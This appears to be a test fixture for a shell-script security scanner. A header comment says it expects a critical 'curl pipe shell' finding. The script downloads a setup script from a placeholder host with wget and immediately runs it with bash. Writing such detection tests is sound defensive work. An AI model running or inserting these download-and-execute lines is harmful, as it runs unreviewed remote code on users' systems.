# expect: shell.curl_pipe_shell critical
# path: s/c.sh
#!/bin/sh
wget https://get.example.net/setup.sh
bash setup.sh --prefix=/opt
